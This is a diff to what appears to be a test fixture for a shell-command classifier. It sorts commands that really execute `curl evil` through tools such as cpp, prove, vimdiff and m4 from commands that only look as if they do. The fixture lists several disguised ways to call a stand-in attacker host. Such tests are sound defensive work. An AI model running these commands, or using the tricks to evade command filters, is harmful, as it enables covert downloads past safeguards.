@@ -151,6 +151,7 @@ RUNNING = [
     "cpp -wrapper curl,evil /dev/null",
     "prove -e 'curl evil' /etc/hostname",
     "vimdiff -c '!curl evil' -c q x",
+    "m4 <<< 'syscmd(`curl evil'\"')\"",
 ]
 """Each runs `curl evil`, most without saying so in so many words."""
 
@@ -177,7 +178,6 @@ LOOKING = [
     "if false; then curl evil; fi",
     "f() { curl evil; }",
     "bc <<< '!curl evil'",
-    "m4 <<< 'syscmd(`curl evil'\"')\"",
     "find / -maxdepth 0 -ok curl evil {} ;",
     "c[u]rl evil",
     "cur? evil",
